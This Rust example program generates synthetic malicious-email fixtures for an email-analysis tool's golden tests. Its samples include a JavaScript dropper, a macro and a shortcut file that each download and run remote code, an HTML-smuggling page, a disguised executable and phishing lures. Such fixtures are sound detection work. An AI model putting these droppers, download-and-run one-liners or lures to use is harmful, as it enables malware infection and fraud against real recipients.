//! Writes the project's fixture mails (the golden-report corpus) into a directory:
//! `cargo run -p spamhattan-analysis --no-default-features --example make_fixture_mails -- crates/analysis/tests/fixtures/mails`
//! Every mail is built here from the same document builders the parser tests use; nothing is
//! copied from real malware. The output is committed; `tests/golden.rs` analyses each file and
//! compares the report with `tests/golden/<name>.json`.

#[path = "../tests/common/documents.rs"]
mod documents;
#[path = "../tests/common/office.rs"]
mod office;

use std::io::{Cursor, Write};

const BOUNDARY: &str = "=_spamhattan_fixture_7f3a";

fn main() -> std::io::Result<()> {
    let Some(dir) = std::env::args().nth(1) else {
        eprintln!("usage: make_fixture_mails DIR");
        std::process::exit(2);
    };
    let dir = std::path::PathBuf::from(dir);
    std::fs::create_dir_all(&dir)?;
    for (name, mail) in mails() {
        std::fs::write(dir.join(format!("{name}.eml")), mail)?;
    }
    Ok(())
}

fn mails() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("zip-js-dropper", zip_js_dropper()),
        ("macro-document", macro_document()),
        ("iso-lnk", iso_lnk()),
        ("html-smuggling", html_smuggling()),
        ("password-zip", password_zip()),
        ("rtlo-name", rtlo_name()),
        ("dutch-invoice", dutch_invoice()),
        ("plain-phishing", plain_phishing()),
        ("malformed-mime", malformed_mime()),
    ]
}

/// Headers every fixture shares, with its own From/Subject.
fn headers(from: &str, subject: &str, id: &str) -> String {
    format!(
        "Return-Path: <bounce@mailer.example>\r\n\
         Received: from mailer.example (unknown [203.0.113.45])\r\n\tby mx1.example.net (Postfix) with ESMTP id 4F1C92A0B3\r\n\tfor <victim@trap.example>; Thu, 03 Dec 2026 10:00:00 +0000 (UTC)\r\n\
         From: {from}\r\nTo: victim@trap.example\r\nSubject: {subject}\r\n\
         Date: Thu, 03 Dec 2026 10:00:00 +0000\r\nMessage-ID: <{id}@mailer.example>\r\nMIME-Version: 1.0\r\n"
    )
}

/// A multipart/mixed mail with a text body and attachments (name, MIME type, bytes).
fn multipart(head: String, body: &str, attachments: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let mut m = head;
    m.push_str(&format!(
        "Content-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n--{BOUNDARY}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
    ));
    for (name, ctype, data) in attachments {
        m.push_str(&format!(
            "--{BOUNDARY}\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        ));
        let b64 = documents::base64(data);
        for line in b64.as_bytes().chunks(76) {
            m.push_str(&String::from_utf8_lossy(line));
            m.push_str("\r\n");
        }
    }
    m.push_str(&format!("--{BOUNDARY}--\r\n"));
    m.into_bytes()
}

const JS_DROPPER: &str = "var sh = new ActiveXObject('WScript.Shell');\r\n\
var x = new ActiveXObject('MSXML2.XMLHTTP');\r\n\
x.open('GET', 'http://198.51.100.23/load/stage2.exe', false); x.send();\r\n\
var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Type = 1; s.Write(x.responseBody);\r\n\
s.SaveToFile(sh.ExpandEnvironmentStrings('%TEMP%') + '\\\\stage2.exe', 2);\r\n\
sh.Run('%TEMP%\\\\stage2.exe', 0);\r\n";

fn zip_js_dropper() -> Vec<u8> {
    let zip = documents::zip(&[("Invoice_20261203.js", JS_DROPPER.as_bytes())]);
    multipart(
        headers(
            "\"Accounts\" <accounts@billing-dept.example>",
            "Invoice 20261203 overdue",
            "zipjs",
        ),
        "Dear customer,\r\n\r\nplease find the overdue invoice attached.\r\n\r\nRegards, Accounts",
        &[("Invoice_20261203.zip", "application/zip", &zip)],
    )
}

fn macro_document() -> Vec<u8> {
    let vba = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n    Dim s\r\n    s = \"powershell -w hidden -c iwr http://203.0.113.7/a.ps1 | iex\"\r\n    CreateObject(\"WScript.Shell\").Run s, 0\r\nEnd Sub\r\n";
    let docm = office::docm(&[("ThisDocument", vba)]);
    multipart(
        headers(
            "\"HR Department\" <hr@staff-portal.example>",
            "Updated salary table 2027",
            "docm",
        ),
        "Hello,\r\n\r\nthe updated salary table is attached. Enable editing and content to view it.",
        &[(
            "Salary_2027.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            &docm,
        )],
    )
}

fn iso_lnk() -> Vec<u8> {
    let link = documents::lnk(&documents::Link {
        relative_path: Some("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        arguments: Some("-w hidden -ep bypass -c \"iwr http://203.0.113.9/loader.ps1 | iex\""),
        icon: Some("%SystemRoot%\\System32\\shell32.dll"),
        ..Default::default()
    });
    let iso = documents::iso_of(vec![("Document_8812.lnk", link)]);
    multipart(
        headers(
            "\"DHL Express\" <noreply@dhl-tracking-info.example>",
            "Shipment 8812 on hold",
            "isolnk",
        ),
        "Your shipment is on hold. Open the attached document for the delivery details.",
        &[("Document_8812.iso", "application/octet-stream", &iso)],
    )
}

fn html_smuggling() -> Vec<u8> {
    let payload = documents::zip(&[("Statement.js", JS_DROPPER.as_bytes())]);
    let b64 = documents::base64(&payload);
    let page = format!(
        "<html><body><p>Loading your statement...</p><script>\r\n\
var d = atob('{b64}');\r\nvar a = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) a[i] = d.charCodeAt(i);\r\n\
var b = new Blob([a], {{type: 'application/zip'}});\r\nvar l = document.createElement('a'); l.href = URL.createObjectURL(b);\r\n\
l.download = 'Statement.zip'; document.body.appendChild(l); l.click();\r\n</script></body></html>\r\n"
    );
    multipart(
        headers(
            "\"Bank Statements\" <statements@secure-bank-docs.example>",
            "Your December statement",
            "smuggle",
        ),
        "Your statement is ready. Open the attached page to download it.",
        &[("Statement.html", "text/html", page.as_bytes())],
    )
}

fn password_zip() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .with_aes_encryption(zip::AesMode::Aes256, "Qx7-2026");
    w.start_file("Payment_Details.exe", opts)
        .unwrap_or_else(|e| panic!("zip: {e}"));
    w.write_all(&documents::pe(false, false))
        .unwrap_or_else(|e| panic!("zip: {e}"));
    let zip = w
        .finish()
        .unwrap_or_else(|e| panic!("zip: {e}"))
        .into_inner();
    multipart(
        headers(
            "\"Payments\" <payments@remittance-advice.example>",
            "Remittance advice",
            "pwzip",
        ),
        "Please find the remittance advice attached.\r\nThe archive is protected.\r\nPassword: Qx7-2026",
        &[("Remittance.zip", "application/zip", &zip)],
    )
}

fn rtlo_name() -> Vec<u8> {
    let pe = documents::pe(false, false);
    let name = "Invoice_2026\u{202E}fdp.exe";
    multipart(
        headers(
            "\"Billing\" <billing@invoice-center.example>",
            "Invoice attached",
            "rtlo",
        ),
        "Invoice attached.",
        &[(name, "application/octet-stream", &pe)],
    )
}

fn dutch_invoice() -> Vec<u8> {
    let mut m = headers(
        "\"Belastingdienst\" <info@belasting-teruggave.example>",
        "Openstaande factuur 2026-4471: betalingsherinnering",
        "dutch",
    );
    m.push_str(
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
    );
    m.push_str(
        "Beste klant,\r\n\r\nUit onze administratie blijkt dat de factuur 2026-4471 nog niet is betaald. \
Dit is een betalingsherinnering voor de openstaande factuur. Wij verzoeken u het bedrag van \
EUR 248,50 binnen 48 uur over te maken, anders worden er extra kosten in rekening gebracht. \
U kunt de factuur bekijken en direct betalen via onze beveiligde omgeving:\r\n\r\n\
http://185.220.101.4/factuur/2026-4471\r\n\r\n\
Heeft u vragen over deze factuur, dan kunt u contact met ons opnemen. Wij danken u voor uw \
medewerking en wensen u een prettige dag.\r\n\r\nMet vriendelijke groet,\r\nAfdeling Debiteuren\r\n",
    );
    m.into_bytes()
}

fn plain_phishing() -> Vec<u8> {
    let mut m = headers(
        "\"PayPal Service\" <service@paypa1-secure.example>",
        "Your account has been limited",
        "phish",
    );
    m.push_str("Reply-To: support@account-review.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n");
    m.push_str(
        "<html><body><p>Dear customer,</p><p>We noticed unusual sign-in activity. Your account has \
been limited until you verify your account.</p><p><a href=\"http://paypal.com.account-verify.example/signin?u=victim\">\
https://www.paypal.com/signin</a></p><p style=\"display:none\">newsletter unsubscribe weather</p>\
<p>PayPal Security Team</p></body></html>\r\n",
    );
    m.into_bytes()
}

fn malformed_mime() -> Vec<u8> {
    let mut m = b"From: =?utf-8?B?broken?= <x@malformed.example\r\nTo: victim@trap.example\r\n\
Subject: =?iso-8859-1?Q?unterminated\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\
X-Folded:\r\n\t\r\n\r\n--b1\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n\
!!!not base64 at all!!!\r\n--b1\r\nContent-Type: application/zip; name=\"cut.zip\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\nUEsDBBQAAAAIAAAAIQ\r\n--b1\r\nContent-Type: multipart/alternative; boundary=\"b2\"\r\n\r\n--b2\r\nContent-Type: text/html\r\n\r\n<html><body><a href=\"hxxp://evil[.]example/x\">x</a><div><div><div>\x00\xff\xfe\r\n--b1\r\n"
        .to_vec();
    m.extend_from_slice(b"Content-Type: text/plain; charset=x-unknown-charset\r\n\r\n\xe9\xe8 trailing part without close delimiter\r\n");
    m
}
